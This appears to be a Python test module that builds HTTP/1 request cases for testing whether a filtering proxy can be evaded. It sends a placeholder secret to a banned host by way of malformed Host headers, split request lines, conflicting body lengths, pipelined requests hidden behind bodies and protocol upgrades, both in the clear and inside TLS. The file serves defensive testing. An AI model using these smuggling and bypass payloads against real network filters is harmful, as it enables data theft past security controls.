"""Cases of HTTP/1 in a stream to an innocent place: in the clear, and inside TLS that names an innocent."""

from collections.abc import Callable

from evasion.attempt import Attempt, Outcome
from evasion.case import INSIDE, PLAIN, Case

BAIT = "Host: {name}\r\nX: {secret}\r\n\r\n"
GOOD = "GET / HTTP/1.1\r\nHost: {cover}\r\n\r\n"
HOSTS = {
    "in fullwidth letters": "{wide}",
    "with an ideographic stop": "{stops}",
    "with a trailing dot": "{name}.",
    "in capitals with a padded port": "{NAME}:00080",
    "with an empty port": "{name}:",
    "with letters for a port": "{name}:x",
    "with two ports": "{name}:80:80",
    "with a port of a thousand zeros": "{name}:" + "0" * 1100 + "80",
    "with a user": "{cover}@{name}",
    "with a second name": "{cover}, {name}",
    "with a path": "{name}/",
    "with two trailing dots": "{name}..",
    "with a percent escape": "{escaped}",
    "with a NUL": "{name}\0",
    "behind a tab": "\t{name}",
    "before a tab": "{name}\t",
    "with a bare carriage return": "{cover}\rHost: {name}",
    "that is a banned address": "{address}",
    "that is a banned address in one number": "{decimal}",
    "that is a banned address, mapped": "{mapped}",
}
REQUESTS: dict[str, tuple[str, ...]] = {
    "plain": ("GET / HTTP/1.1\r\n" + BAIT,),
    "HTTP/1.0": ("GET / HTTP/1.0\r\n" + BAIT,),
    "G, ET": ("G", "ET / HTTP/1.1\r\n" + BAIT),
    "GE, T": ("GE", "T / HTTP/1.1\r\n" + BAIT),
    "the Host cut": ("GET / HTTP/1.1\r\nHost: {half}", "{rest}\r\nX: {secret}\r\n\r\n"),
    "byte by byte": (*tuple("GET "), "/ HTTP/1.1\r\n" + BAIT),
    "a leading line break": ("\r\nGET / HTTP/1.1\r\n" + BAIT,),
    "a leading line break apart": ("\r\n", "GET / HTTP/1.1\r\n" + BAIT),
    "a leading line feed": ("\nGET / HTTP/1.1\r\n" + BAIT,),
    "a leading space": (" GET / HTTP/1.1\r\n" + BAIT,),
    "M-SEARCH": ("M-SEARCH * HTTP/1.1\r\n" + BAIT,),
    "OPTIONS *": ("OPTIONS * HTTP/1.1\r\n" + BAIT,),
    "method X1": ("X1 / HTTP/1.1\r\n" + BAIT,),
    "method G": ("G / HTTP/1.1\r\n" + BAIT,),
    "method SSH": ("SSH / HTTP/1.1\r\n" + BAIT,),
    "method get": ("get / HTTP/1.1\r\n" + BAIT,),
    "tabs": ("GET\t/\tHTTP/1.1\r\n" + BAIT,),
    "vertical tabs": ("GET\x0b/\x0bHTTP/1.1\r\n" + BAIT,),
    "bare carriage returns": ("GET\r/\rHTTP/1.1\r\n" + BAIT,),
    "http/1.1 in small letters": ("GET / http/1.1\r\n" + BAIT,),
    "HTTP/1.2": ("GET / HTTP/1.2\r\n" + BAIT,),
    "line feeds alone": ("GET / HTTP/1.1\nHost: {name}\nX: {secret}\n\n",),
    "an absolute target": ("GET http://{name}/{secret} HTTP/1.1\r\nHost: {cover}\r\n\r\n",),
    "an absolute target in capitals": ("GET HTTP://{NAME}/{secret} HTTP/1.1\r\nHost: {cover}\r\n\r\n",),
    "an absolute target of another scheme": ("GET ftp://{name}:21/{secret} HTTP/1.1\r\nHost: {cover}\r\n\r\n",),
    "an absolute target of a long scheme": (
        "GET " + "a" * 40 + "://{name}/{secret} HTTP/1.1\r\nHost: {cover}\r\n\r\n",
    ),
    "an absolute target with a user": ("GET http://{cover}@{name}/{secret} HTTP/1.1\r\nHost: {cover}\r\n\r\n",),
    "a folded Host": ("GET / HTTP/1.1\r\nHost:\r\n {name}\r\nX: {secret}\r\n\r\n",),
    "a Host with space before the colon": ("GET / HTTP/1.1\r\nHost : {name}\r\nX: {secret}\r\n\r\n",),
    "two Hosts": ("GET / HTTP/1.1\r\nHost: {cover}\r\n" + BAIT,),
    "two Hosts, the banned one first": ("GET / HTTP/1.1\r\nHost: {name}\r\nHost: {cover}\r\nX: {secret}\r\n\r\n",),
    "an empty Host before": ("GET / HTTP/1.1\r\nHost:\r\n" + BAIT,),
    **{f"a Host {what}": (f"GET / HTTP/1.1\r\nHost: {host}\r\nX: {{secret}}\r\n\r\n",) for what, host in HOSTS.items()},
    "a Host behind a bare carriage return": ("GET / HTTP/1.1\r\nHost: {cover}\r\nY: a\r" + BAIT,),
    "a method of 65 letters": ("A" * 65 + " / HTTP/1.1\r\n" + BAIT,),
    "a method of 65 letters apart": ("A" * 65, " / HTTP/1.1\r\n" + BAIT),
    "a word behind the version": ("GET / HTTP/1.1 x\r\n" + BAIT,),
    "HTTP/0.9": ("GET /{name}/{secret}\r\n",),
    "chunked": ("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n" + BAIT + "5\r\nhello\r\n0\r\n\r\n",),
    "chunked, with an extension": (
        "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n" + BAIT + "5;x={secret}\r\nhello\r\n0\r\n\r\n",
    ),
    "chunked, with a Host in its trailers": (
        "POST / HTTP/1.1\r\nHost: {name}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n" + BAIT,
    ),
    "both lengths": ("POST / HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n" + BAIT + "0\r\n\r\n",),
    "two lengths": ("POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 4\r\n" + BAIT + "abcd",),
    "100-continue": ("POST / HTTP/1.1\r\nContent-Length: 4\r\nExpect: 100-continue\r\n" + BAIT, "abcd"),
    "a large upload": ("POST / HTTP/1.1\r\nContent-Length: 300000\r\n" + BAIT, "{secret}0123456789" * 12_500),
    "a chunked upload": (
        "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n" + BAIT + "40000\r\n" + "x" * 0x40000 + "\r\n0\r\n\r\n",
    ),
    "h2c by upgrade": (
        "GET / HTTP/1.1\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAA\r\n" + BAIT,
    ),
    "an upgrade to a WebSocket": (
        "GET / HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n" + BAIT,
        b"\x81\x85\0\0\0\0hello",
    ),
    "gRPC": (
        "POST /a.B/c HTTP/1.1\r\nContent-Type: application/grpc\r\nTE: trailers\r\nContent-Length: 5\r\n" + BAIT,
        b"\0\0\0\0\0",
    ),
}
BEHIND: dict[str, tuple[str, ...]] = {  # an innocent request is answered first
    "the second of two in one piece": (GOOD + "GET / HTTP/1.1\r\n" + BAIT,),
    "the second of a kept connection": (GOOD, "GET / HTTP/1.1\r\n" + BAIT),
    "behind a body": ("POST / HTTP/1.1\r\nHost: {cover}\r\nContent-Length: 2\r\n\r\nabGET / HTTP/1.1\r\n" + BAIT,),
    "behind a chunked body": (
        "POST / HTTP/1.1\r\nHost: {cover}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n"
        "GET / HTTP/1.1\r\n" + BAIT,
    ),
    "behind a length with a sign": (
        "POST / HTTP/1.1\r\nHost: {cover}\r\nContent-Length: +0\r\n\r\nGET / HTTP/1.1\r\n" + BAIT,
    ),
}
UPGRADED: dict[str, tuple[str | bytes, ...]] = {  # 101 first
    "HTTP behind an upgrade to another protocol": ("GET / HTTP/1.1\r\n" + BAIT,),
    "HTTP behind such an upgrade, cut": ("G", "ET / HTTP/1.1\r\n" + BAIT),
}
PREFIXED = {"a method of 65 letters apart"}  # goes on before it can be told from any other text
BEHIND_TLS = {"reverse:http", "reverse:https"}  # there mitmproxy waits for the end of a head, and we at most 30 s
LAST = frozenset({"a leading line break", "a leading line break apart", "a leading line feed", "HTTP/0.9"})
ODD = {"HTTP/0.9": "mitmproxy does not speak it, and it names no host: who is asked would go unseen"}
UPGRADE = "GET / HTTP/1.1\r\nHost: {cover}\r\nConnection: Upgrade\r\nUpgrade: raw\r\n\r\n"


def _say(
    pieces: tuple[str | bytes, ...], answers: int, *, secure: bool, first: str = ""
) -> Callable[[Attempt], Outcome]:
    def run(attempt: Attempt) -> Outcome:
        connection = attempt.open(443 if secure else 80)
        if secure:
            connection = attempt.tls(connection)
        if first:
            attempt.send(connection, first)
            attempt.wait(connection, b"\r\n\r\n")
        attempt.send(connection, *pieces)
        return attempt.outcome(connection, answers)

    return run


def _cases(secure: bool) -> list[Case]:
    surface, modes = ("http inside TLS", INSIDE) if secure else ("http", PLAIN)
    label = "inside TLS" if secure else "request"
    return [
        *(
            Case(
                f"{label}: {name}",
                surface,
                modes - BEHIND_TLS if secure and name in LAST else modes,
                _say(pieces, 1, secure=secure),
                alone=not secure and name not in PREFIXED,
                opened=secure,
                odd=ODD.get(name, ""),
            )
            for name, pieces in REQUESTS.items()
        ),
        *(
            Case(f"{label}: {name}", surface, modes, _say(pieces, 2, secure=secure), opened=secure)
            for name, pieces in BEHIND.items()
        ),
        *(
            Case(f"{label}: {name}", "upgrade", modes, _say(pieces, 1, secure=secure, first=UPGRADE), opened=secure)
            for name, pieces in UPGRADED.items()
        ),
    ]  # fmt: skip


HTTP1 = [*_cases(False), *_cases(True)]
